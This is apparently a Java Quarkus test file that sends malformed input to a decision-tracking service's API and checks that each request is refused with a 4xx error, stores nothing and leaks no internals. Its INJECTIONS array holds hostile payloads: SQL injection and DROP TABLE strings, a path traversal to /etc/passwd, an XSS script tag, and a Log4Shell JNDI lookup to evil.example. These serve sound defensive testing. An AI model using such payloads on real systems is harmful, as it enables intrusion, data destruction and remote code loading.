package io.entente.decision;

import io.entente.platform.testing.BadInput;
import io.entente.platform.testing.BadInput.Case;
import io.entente.platform.testing.TestTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static io.entente.platform.testing.BadInput.abbreviate;
import static io.entente.platform.testing.BadInput.common;
import static io.entente.platform.testing.BadInput.field;
import static io.entente.platform.testing.BadInput.str;
import static io.entente.platform.testing.BadInput.with;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Bad input against every write of the decision service: each answer is a 4xx problem+json, never a 5xx, and
 * nothing is stored (rows, audit). The valid body of each endpoint is broken one way at a time.
 */
@QuarkusTest
class BadInputTest {

    static final String ALLIANCE = "D-BAD";
    static final String USER = "bad-input";
    static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "D-BAD; DROP TABLE decision; --", "../../etc/passwd",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "D-BAD\u0000"};


    static final String DECISION = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14);
    static final String UPDATE = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14,
            "JSC", true);
    static final String LADDER = """
            {"steps":[{"body":"JSC","days":30},{"body":"EXECUTIVE_SPONSORS","days":30}]}""";

    static String decisionId;

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrap;

    @Inject
    EntityManager em;

    @BeforeEach
    void fixtures() {
        DecisionFixtures.registerAlliance(bootstrap, ALLIANCE);
        if (decisionId == null) {
            decisionId = given().auth().oauth2(TOKEN).contentType("application/json").body(UPDATE)
                    .post("/api/decisions").then().statusCode(201).extract().path("id");
        }
    }






    static List<String> injections() {
        return Stream.of(INJECTIONS).map(BadInput::str).toList();
    }

    static Stream<Case> cases() {
        List<Case> all = new ArrayList<>();
        String decisions = "/api/decisions";
        all.addAll(common("POST", decisions, DECISION, "title"));
        all.addAll(field("POST", decisions, DECISION, "title", null, "\"\"", str("t".repeat(201))));
        all.addAll(field("POST", decisions, DECISION, "question", null, str("q".repeat(2001))));
        all.addAll(field("POST", decisions, DECISION, "allianceId", null, "\"d-bad\"", "\"NOT-MINE\"", "[]"));
        all.addAll(field("POST", decisions, DECISION, "allianceId", injections().toArray(String[]::new)));
        all.addAll(field("POST", decisions, DECISION, "governanceBody", null, "\"POLITBURO\"", "3"));
        all.addAll(field("POST", decisions, DECISION, "dueDate", null, "\"2027-02-29\"", "\"2027-03-01T10:00Z\"",
                "\"01/03/2027\"", "\"2027-03-01[Europe/Nowhere]\"", "\"+999999999-12-31\"", "20270301"));
        all.addAll(field("POST", decisions, DECISION, "leadTimeDays", null, "-1", "366", "\"two weeks\"", "1.5e3"));
        all.addAll(field("POST", decisions, DECISION, "options",
                "[{\"key\":\"A B\",\"title\":\"x\"}]", "[{\"key\":\"A\"}]", "[null]", "\"A,B\"",
                "[" + "{\"key\":\"K\",\"title\":\"t\"},".repeat(10) + "{\"key\":\"L\",\"title\":\"t\"}]",
                "[{\"key\":\"A\",\"title\":\"x\",\"chosen\":true}]"));
        all.addAll(field("POST", decisions, DECISION, "contributors", "[\"\"]", "\"tara\"", "[null]"));
        all.addAll(field("POST", decisions, DECISION, "draft", "\"maybe\""));
        all.addAll(field("POST", decisions, DECISION, "status", "\"DECIDED\""));
        all.addAll(field("POST", decisions, DECISION, "outcome", "\"A\""));

        String one = "/api/decisions/{id}";
        all.addAll(common("PUT", one, UPDATE, "title"));
        all.addAll(field("PUT", one, UPDATE, "dueDate", "\"2027-04-31\""));
        all.addAll(field("PUT", one, UPDATE, "allianceId", "\"ONC-HELIX\""));
        all.addAll(field("PUT", one, UPDATE, "leadTimeDays", "400"));

        all.add(new Case("propose without option", "POST", one + "/propose", "application/json", "{}"));
        all.add(new Case("decide without rationale", "POST", one + "/decide", "application/json",
                "{\"chosenOption\":\"A\"}"));
        all.add(new Case("defer to a non-date", "POST", one + "/defer", "application/json",
                "{\"newDueDate\":\"next quarter\",\"reason\":\"r\"}"));
        all.add(new Case("defer to an invalid date", "POST", one + "/defer", "application/json",
                "{\"newDueDate\":\"2027-02-30\",\"reason\":\"r\"}"));
        all.add(new Case("withdraw with 2001 characters", "POST", one + "/withdraw", "application/json",
                "{\"reason\":" + str("w".repeat(2001)) + "}"));

        String ladder = "/api/escalation-ladders/" + ALLIANCE;
        all.addAll(common("PUT", ladder, LADDER, "steps"));
        all.addAll(field("PUT", ladder, LADDER, "steps", "[]", "[{\"body\":\"JSC\",\"days\":0}]",
                "[{\"body\":\"JSC\",\"days\":181}]", "[{\"body\":\"COUNCIL\",\"days\":10}]", "[null]",
                "[{\"body\":\"JSC\",\"days\":1},{\"body\":\"JDC\",\"days\":1},{\"body\":\"JCC\",\"days\":1},"
                        + "{\"body\":\"FINANCE\",\"days\":1},{\"body\":\"EXECUTIVE_SPONSORS\",\"days\":1},"
                        + "{\"body\":\"JSC\",\"days\":1}]"));
        return all.stream();
    }

    long[] counts() {
        return new long[]{
                count("select count(*) from decision"),
                count("select count(*) from prep_item"),
                count("select count(*) from calendar_feed"),
                count("select count(*) from audit_log where actor = '" + USER + "'"),
                count("select coalesce(sum(version), 0) from decision where alliance_id = '" + ALLIANCE + "'")};
    }

    long count(String sql) {
        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void refusedWith4xxProblemAndNothingStored(Case c) {
        long[] before = counts();
        String path = c.path().replace("{id}", decisionId);
        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
        String etag = given().auth().oauth2(TOKEN).get(path.startsWith("/api/decisions")
                ? "/api/decisions/" + decisionId : path).header("ETag");
        if (etag != null) {
            request = request.header("If-Match", etag);
        }
        Response r = request.request(c.method(), path);
        String text = r.asString();
        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
                c + " answered " + r.statusCode() + ": " + abbreviate(text));
        assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
                c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(text));
        assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
        assertTrue(!text.contains("Exception") && !text.contains("org.hibernate"), "no internals: " + text);
        assertEquals(java.util.Arrays.toString(before), java.util.Arrays.toString(counts()), c + ": nothing stored");
    }

    static Stream<String> badQueries() {
        return Stream.of("limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password", "status=PARTY",
                "dueFrom=2027-02-30", "dueTo=tomorrow", "body=POLITBURO", "risk=HIGHISH");
    }

    @ParameterizedTest(name = "GET /api/decisions?{0}")
    @MethodSource("badQueries")
    void badQueriesAre4xx(String query) {
        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/decisions?" + query);
        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, query + " answered " + r.statusCode());
        assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
    }
}
